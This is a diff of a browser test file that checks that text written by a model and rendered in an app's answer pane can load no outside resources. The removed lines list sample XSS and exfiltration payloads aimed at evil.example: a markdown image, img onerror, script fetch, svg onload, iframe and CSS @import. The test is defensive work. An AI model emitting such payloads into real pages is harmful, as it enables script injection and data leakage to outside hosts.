@@ -5,15 +5,20 @@ from __future__ import annotations
 import json
 from pathlib import Path
 
+import pytest
 from playwright.sync_api import WebSocketRoute, expect
 
 from tests.browser.conftest import Opened
 from tests.browser.steps import ask, send, shelved
+from tests.exfiltration import ATTEMPTS
 from tests.fakes import ModelServer, Script
 from tests.house import House
 
 QUESTION = "Why did freight rates matter to the shipping company, and what did the board resolve?"
 WORDS = [f"word{n} " for n in range(60)]
+LOADS = (
+    "img, picture, video, audio, script, svg, iframe, embed, object, style, link, a, form, [style], [hx-trigger]"
+)
 
 
 def test_stop_stands_where_send_was(running: House, opened: Opened, filing: Path, model: ModelServer) -> None:
@@ -116,19 +121,19 @@ def test_a_wrong_figure_is_marked_in_words(running: House, opened: Opened, filin
     expect(turn.locator(".verdict.unsupported")).to_have_text("1 not found in the sources")
 
 
-def test_what_a_model_writes_can_load_nothing(running: House, opened: Opened, filing: Path, model: ModelServer) -> None:
+@pytest.mark.parametrize("part", range(6))
+def test_what_a_model_writes_can_load_nothing(
+    running: House, opened: Opened, filing: Path, model: ModelServer, part: int
+) -> None:
     """The fixture fails the test for any request that leaves the house and any error in the console."""
-    evil = [
-        "![x](https://evil.example/a.png?q=1) <img src='https://evil.example/b.png' onerror='alert(1)'>\n\n",
-        "<script>fetch('https://evil.example/c')</script> [click](https://evil.example/d) <https://evil.example/e>\n\n",
-        "<svg onload=alert(1)></svg><iframe src='https://evil.example/f'></iframe>",
-        "<style>@import '//evil.example/g'</style>",
-    ]
-    model.script = Script(pieces=evil)
+    attempts = ATTEMPTS[part::6]
+    model.script = Script(pieces=[f"Attempt {n}\n\n{attempt}\n\n" for n, attempt in enumerate(attempts)])
     page = opened("analyst")
     shelved(page, running, filing)
     page.goto(f"{running.url}/")
     turn = ask(page, QUESTION)
-    assert turn.locator(".answer :is(img, script, svg, iframe, style, a, object, form, input)").count() == 0
+    expect(turn.locator(".answer")).to_contain_text(f"Attempt {len(attempts) - 1}")
+    assert turn.locator(f".answer :is({LOADS})").count() == 0
     page.reload()
-    assert page.locator(".turn .answer :is(img, script, svg, iframe, style, a, object, form, input)").count() == 0
+    expect(page.locator(".turn .answer")).to_contain_text(f"Attempt {len(attempts) - 1}")
+    assert page.locator(f".turn .answer :is({LOADS})").count() == 0
